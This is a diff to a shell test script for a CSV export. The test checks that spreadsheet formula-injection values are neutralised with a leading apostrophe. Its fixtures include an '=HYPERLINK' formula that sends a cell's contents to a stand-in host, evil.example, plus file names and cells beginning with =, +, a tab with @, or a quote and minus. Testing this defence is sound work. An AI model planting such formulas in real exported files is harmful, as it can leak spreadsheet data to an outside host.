@@ -53,11 +53,11 @@ tab=$'\t@x'
 expect_line() {
 	grep -qxF -- "$1" "$T/out.csv" || fail "$2: line '$1' not in the export:"$'\n'"$(cat -A "$T/out.csv")"
 }
-expect_line "\"'=cmd.png\",0,0,1,refined,plain words" "a file name starting with ="
-expect_line "a.png,0,0,1,refined,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"details\"\")\"" "=HYPERLINK"
-expect_line "b.png,1,0,1,refined,\"' +1\"" "' +1' (a leading blank)"
-expect_line "c.png,1,0,1,refined,\"'"$'\t'"@x\"" "a leading tab"
-expect_line "d.png,0,0,1,refined,\"'\"\"-2\"" "a leading quote"
+expect_line "\"'=cmd.png\",0,0,1,refined,plain words,0," "a file name starting with ="
+expect_line "a.png,0,0,1,refined,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"details\"\")\",0," "=HYPERLINK"
+expect_line "b.png,1,0,1,refined,\"' +1\",0," "' +1' (a leading blank)"
+expect_line "c.png,1,0,1,refined,\"'"$'\t'"@x\",0," "a leading tab"
+expect_line "d.png,0,0,1,refined,\"'\"\"-2\",0," "a leading quote"
 # no cell of the export starts, after blanks and quotes, with = + - @ unless behind the "'"
 if tail -n +2 "$T/out.csv" | tr ',' '\n' | grep -Eq $'^[ \t"]*[=+@-]'; then
 	fail "a formula-like cell is left:"$'\n'"$(cat "$T/out.csv")"
